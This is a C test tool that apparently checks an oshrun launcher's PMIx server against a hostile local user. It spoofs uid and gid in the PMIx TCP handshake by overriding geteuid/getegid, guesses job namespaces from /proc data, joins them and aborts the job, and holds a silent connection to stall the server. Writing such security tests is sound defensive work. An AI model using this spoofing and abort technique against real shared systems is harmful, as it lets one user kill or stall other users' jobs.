/* A hostile local user against a running oshrun, for the launcher tests:
 * it tries to join the job's PMIx namespace and end the job with
 * PMIx_Abort, and to stall the PMIx server with a connection that never
 * speaks.
 *
 *   pmix_stranger [--uid U] [--claim-uid U:G] [--nspace NS]... [--silent S]
 *                 OSHRUN_PID PORT
 *
 *   --uid U         become uid (and gid) U first (needs root): a second user
 *   --claim-uid U:G claim uid U and gid G in the PMIx handshake, which is
 *                   what PMIx's native security over TCP believes
 *   --nspace NS     also try namespace NS (as if it had leaked)
 *   --silent S      last, hold a connection that sends nothing for S seconds
 *
 * Besides the given namespaces it tries those it can derive from public
 * facts: "oshrun.PID.T" for T around oshrun's start time (from
 * /proc/PID/stat), the names oshrun used to give its jobs. PORT is the
 * server's TCP port, which /proc/net/tcp shows to everyone with its owner's
 * uid; the test passes it so that no other job on the machine is attacked.
 * Each attempt runs in a child with a 5 s limit and prints one line:
 * "joined NS" (then the child aborts the job with status 99), "refused NS"
 * or "no answer NS". Exit status 0 unless the tool itself failed. */
#include <arpa/inet.h>
#include <errno.h>
#include <grp.h>
#include <netinet/in.h>
#include <pmix.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_NSPACES 64

static bool claim;
static uid_t claimed_uid;
static gid_t claimed_gid;

/* libpmix's client puts geteuid() and getegid() in its TCP handshake; these
 * definitions, in the executable, are what its calls bind to. */
__attribute__((visibility("default"))) uid_t geteuid(void)
{
    return claim ? claimed_uid : getuid();
}

__attribute__((visibility("default"))) gid_t getegid(void)
{
    return claim ? claimed_gid : getgid();
}

static int usage(void)
{
    fprintf(stderr, "usage: pmix_stranger [--uid U] [--claim-uid U:G] [--nspace NS]... "
                    "[--silent S] OSHRUN_PID PORT\n");
    return 2;
}

/* oshrun's start, in seconds since the epoch, from what every user can read. */
static long start_time(long pid)
{
    char path[64], buf[4096];
    snprintf(path, sizeof(path), "/proc/%ld/stat", pid);
    FILE *f = fopen(path, "r");
    if (f == NULL)
        return -1;
    size_t n = fread(buf, 1, sizeof(buf) - 1, f);
    fclose(f);
    buf[n] = '\0';
    char *p = strrchr(buf, ')'); /* the command may hold spaces */
    unsigned long long ticks = 0;
    /* after ") ": state is field 3, starttime field 22 */
    if (p == NULL || sscanf(p + 2, "%*c %*s %*s %*s %*s %*s %*s %*s %*s %*s %*s %*s %*s %*s %*s "
                                   "%*s %*s %*s %*s %llu", &ticks) != 1)
        return -1;
    long btime = -1;
    f = fopen("/proc/stat", "r");
    while (f != NULL && fgets(buf, sizeof(buf), f) != NULL)
        if (sscanf(buf, "btime %ld", &btime) == 1)
            break;
    if (f != NULL)
        fclose(f);
    return btime < 0 ? -1 : btime + (long)(ticks / (unsigned long long)sysconf(_SC_CLK_TCK));
}

/* One attempt to join nspace as rank 0 and abort the job. */
static void try_nspace(const char *nspace, long pid, int port)
{
    char uri[256];
    snprintf(uri, sizeof(uri), "pmix-server.%ld;tcp4://127.0.0.1:%d", pid, port);
    fflush(stdout);
    pid_t child = fork();
    if (child == 0) {
        static const char *const uri_vars[] = {"PMIX_SERVER_URI41", "PMIX_SERVER_URI4",
                                               "PMIX_SERVER_URI3", "PMIX_SERVER_URI2",
                                               "PMIX_SERVER_URI21", NULL};
        for (int i = 0; uri_vars[i] != NULL; i++)
            setenv(uri_vars[i], uri, 1);
        setenv("PMIX_NAMESPACE", nspace, 1);
        setenv("PMIX_RANK", "0", 1);
        setenv("PMIX_SECURITY_MODE", "native", 1);
        setenv("PMIX_BFROP_BUFFER_TYPE", "PMIX_BFROP_BUFFER_NON_DESC", 1);
        setenv("PMIX_GDS_MODULE", "hash", 1);
        setenv("PMIX_MCA_gds", "hash", 1);
        alarm(5);
        pmix_proc_t me;
        if (PMIx_Init(&me, NULL, 0) != PMIX_SUCCESS) {
            printf("refused %s\n", nspace);
            _exit(0);
        }
        printf("joined %s\n", nspace);
        fflush(stdout);
        PMIx_Abort(99, "aborted by a process of another user", NULL, 0);
        _exit(0);
    }
    int status;
    if (child > 0 && waitpid(child, &status, 0) == child && WIFSIGNALED(status))
        printf("no answer %s\n", nspace);
}

/* Connects and sends nothing for `seconds`. */
static int hold_silent(int port, int seconds)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
        printf("silent connection failed: %s\n", strerror(errno));
        return 1;
    }
    printf("holding a silent connection\n");
    fflush(stdout);
    sleep((unsigned)seconds);
    close(s);
    return 0;
}

int main(int argc, char **argv)
{
    const char *nspaces[MAX_NSPACES];
    int n_nspaces = 0, silent = 0;
    long as_uid = -1;
    int i = 1;
    for (; i < argc && strncmp(argv[i], "--", 2) == 0; i++) {
        if (i + 1 >= argc)
            return usage();
        if (strcmp(argv[i], "--uid") == 0) {
            as_uid = strtol(argv[++i], NULL, 10);
        } else if (strcmp(argv[i], "--claim-uid") == 0) {
            unsigned long u, g;
            if (sscanf(argv[++i], "%lu:%lu", &u, &g) != 2)
                return usage();
            claimed_uid = (uid_t)u;
            claimed_gid = (gid_t)g;
            claim = true;
        } else if (strcmp(argv[i], "--nspace") == 0 && n_nspaces < MAX_NSPACES - 16) {
            nspaces[n_nspaces++] = argv[++i];
        } else if (strcmp(argv[i], "--silent") == 0) {
            silent = atoi(argv[++i]);
        } else {
            return usage();
        }
    }
    if (argc - i != 2)
        return usage();
    long pid = strtol(argv[i], NULL, 10);
    int port = atoi(argv[i + 1]);
    setvbuf(stdout, NULL, _IOLBF, 0);

    if (as_uid >= 0 && (setgroups(0, NULL) != 0 || setresgid((gid_t)as_uid, (gid_t)as_uid,
                                                              (gid_t)as_uid) != 0 ||
                        setresuid((uid_t)as_uid, (uid_t)as_uid, (uid_t)as_uid) != 0)) {
        fprintf(stderr, "pmix_stranger: cannot become uid %ld: %s\n", as_uid, strerror(errno));
        return 1;
    }
    /* The names oshrun once gave its jobs: its pid and a time(NULL) taken
     * just after it started. */
    static char guessed[16][64];
    long start = start_time(pid);
    for (int k = 0; start >= 0 && k < 16; k++) {
        snprintf(guessed[k], sizeof(guessed[k]), "oshrun.%ld.%ld", pid, start - 2 + k);
        nspaces[n_nspaces++] = guessed[k];
    }
    if (start < 0)
        printf("cannot read the start time of pid %ld\n", pid);
    for (int k = 0; k < n_nspaces; k++)
        try_nspace(nspaces[k], pid, port);
    return silent > 0 ? hold_silent(port, silent) : 0;
}
